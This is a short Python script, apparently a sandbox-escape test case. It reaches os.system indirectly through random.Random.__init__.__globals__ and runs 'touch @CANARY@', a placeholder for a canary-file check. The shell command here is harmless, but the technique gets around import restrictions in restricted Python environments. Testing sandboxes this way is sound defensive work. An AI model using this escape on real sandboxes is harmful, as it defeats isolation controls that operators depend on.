import asyncio
import random


async def main():
    random.Random.__init__.__globals__["_os"].system("touch @CANARY@")


asyncio.run(main())
